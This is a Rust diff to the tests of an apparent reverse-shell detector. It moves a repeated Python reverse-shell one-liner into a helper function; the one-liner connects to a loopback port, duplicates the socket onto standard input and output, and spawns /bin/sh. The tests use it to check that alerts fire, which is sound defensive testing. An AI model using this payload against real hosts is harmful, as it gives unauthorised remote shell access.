@@ -372,6 +372,15 @@ fn shell_alerts(records: &[Value], port: u16) -> Vec<&Value> {
         .collect()
 }
 
+/// The usual python one-liner: connect to loopback `port`, dup2 the
+/// socket onto 0, 1, 2, then a pty shell.
+fn python_reverse_shell(port: u16) -> String {
+    format!(
+        "import socket,os,pty;s=socket.create_connection(('127.0.0.1',{port}));\
+         [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
+    )
+}
+
 #[test]
 fn reverse_shells_are_critical() {
     if !privileged("reverse_shells_are_critical") {
@@ -397,12 +406,10 @@ fn reverse_shells_are_critical() {
 
     // 2. python: connect, dup2 onto 0, 1, 2, then a pty shell.
     let py = Attacker::new();
-    let script = format!(
-        "import socket,os,pty;s=socket.create_connection(('127.0.0.1',{}));\
-         [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
-        py.port
-    );
-    let mut c = Command::new(PYTHON).args(["-c", &script]).spawn().unwrap();
+    let mut c = Command::new(PYTHON)
+        .args(["-c", &python_reverse_shell(py.port)])
+        .spawn()
+        .unwrap();
     let py_pid = c.id();
     assert!(py.drive(&marker).contains(&marker));
     c.wait().unwrap();
@@ -645,12 +652,10 @@ fn copies_and_hard_links_of_an_interpreter_are_still_reverse_shells() {
     let mut shells = Vec::new();
     for bin in [&copy, &link] {
         let at = Attacker::new();
-        let script = format!(
-            "import socket,os,pty;s=socket.create_connection(('127.0.0.1',{}));\
-             [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
-            at.port
-        );
-        let mut c = Command::new(bin).args(["-c", &script]).spawn().unwrap();
+        let mut c = Command::new(bin)
+            .args(["-c", &python_reverse_shell(at.port)])
+            .spawn()
+            .unwrap();
         assert!(at.drive(&marker).contains(&marker));
         c.wait().unwrap();
         shells.push((c.id(), at.port));
